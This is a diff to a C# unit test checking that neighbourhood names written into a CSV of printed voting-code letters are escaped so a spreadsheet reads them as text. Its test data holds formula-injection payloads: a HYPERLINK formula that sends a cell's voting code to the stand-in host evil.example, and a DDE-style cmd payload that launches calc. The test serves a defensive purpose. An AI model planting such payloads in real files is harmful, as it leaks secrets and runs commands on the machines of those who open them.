@@ -132,6 +132,25 @@ public sealed class when_voting_code_letters_are_printed(PrintedIssuance issuanc
         Assert.Equal(3, PrintedLetters.PageCount(buffer.ToArray()));
     }
 
+    /// <summary>
+    /// Staff name the colonias, and the file holds every code: a name a spreadsheet would run as a formula (which could
+    /// send the codes away when the authority or the mail house opens it) is written as text.
+    /// </summary>
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?x=\"&D2,\"Ver\")", "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&D2,\"\"Ver\"\")\"")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("+52 Centro", "'+52 Centro")]
+    [InlineData("-Centro", "'-Centro")]
+    [InlineData("Loma Bonita", "Loma Bonita")]
+    public void a_colonia_name_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string colonia, string written)
+    {
+        using var csv = new MemoryStream();
+        Credentials.Letters.WriteCsv(PrintedIssuance.Batch, [Letter.For(colonia, issuance.Identifiers[0], VotingCode.New(), PrintedIssuance.JornadaId)], csv);
+
+        var row = Encoding.UTF8.GetString(csv.ToArray()).Split("\r\n")[1];
+        Assert.StartsWith($",{written},", row[row.IndexOf(',')..]);
+    }
+
     [Fact]
     public void it_writes_into_a_zip_entry_beside_the_csv()
     {
